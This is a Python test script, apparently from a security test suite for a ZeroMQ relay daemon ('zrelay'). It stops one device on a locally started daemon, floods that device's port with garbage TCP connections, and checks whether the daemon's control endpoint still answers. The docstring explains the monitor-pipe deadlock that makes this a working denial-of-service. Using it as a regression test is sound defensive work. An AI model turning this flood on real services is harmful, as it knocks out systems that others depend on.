#!/usr/bin/python3
"""attack14: a device stopped by 'zrelay ctl stop' keeps its sockets
bound and its socket monitors, but nothing reads the monitors any more
(its thread is gone; the ZAP handler reads one only for a handshake that
reaches ZAP). Garbage connections (ACCEPTED, HANDSHAKE_FAILED,
DISCONNECTED: three events each, none reaching ZAP) fill the monitor's
inproc pipe; libzmq's I/O thread then blocks in its monitor send, holding
the socket's monitor mutex, and every socket of the context stops: the
other device and the daemon's control endpoint. Usage:
attack14_stoppedflood.py ZRELAY [N]"""
import os
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attacklib import free_port, start  # noqa: E402

Z = sys.argv[1]
N = int(sys.argv[2]) if len(sys.argv) > 2 else 1500
T = tempfile.mkdtemp(prefix="zr-a14-stopped-")
cp, fa, fb, ga, gb = (free_port() for _ in range(5))
conf = os.path.join(T, "z.conf")
with open(conf, "w") as f:
    f.write("[zrelay]\ncontrol = tcp://127.0.0.1:%d\n"
            "[queue victim]\nfrontend = tcp://127.0.0.1:%d\n"
            "backend = tcp://127.0.0.1:%d\n"
            "[streamer other]\nfrontend = tcp://127.0.0.1:%d\n"
            "backend = tcp://127.0.0.1:%d\n" % (cp, fa, fb, ga, gb))
ctl = "tcp://127.0.0.1:%d" % cp
proc = start([Z, "run", "-c", conf], os.path.join(T, "err"))


def ctl_cmd(*args, timeout=5):
    try:
        r = subprocess.run([Z, "ctl", ctl] + list(args) + ["--timeout", "3s"],
                           capture_output=True, timeout=timeout)
        return r.returncode, r.stdout.decode() + r.stderr.decode()
    except subprocess.TimeoutExpired:
        return -1, "(no answer)"


ok = True
try:
    rc, out = ctl_cmd("stop", "victim")
    print("ctl stop victim:", rc, out.strip()[:80])
    t0 = time.time()
    for i in range(N):
        try:
            k = socket.create_connection(("127.0.0.1", fa), timeout=2)
            k.sendall(b"\x01\x02garbage-not-zmtp\r\n" * 4)
            k.close()
        except OSError as e:
            print("connection %d: %s" % (i, e))
            break
    print("%d garbage connections in %.1f s" % (N, time.time() - t0))
    time.sleep(1)
    with open("/proc/%d/status" % proc.pid) as f:
        rss = [l.split()[1] for l in f if l.startswith("VmRSS")][0]
    print("daemon RSS after the flood: %s kB" % rss)
    rc, out = ctl_cmd("list")
    print("ctl list after the flood: rc=%d %s" % (rc, out.strip()[:200]))
    if rc != 0:
        print("FAIL: the daemon's control endpoint no longer answers")
        ok = False
finally:
    proc.kill()
    proc.wait()
print("PASS" if ok else "FAIL")
sys.exit(0 if ok else 1)
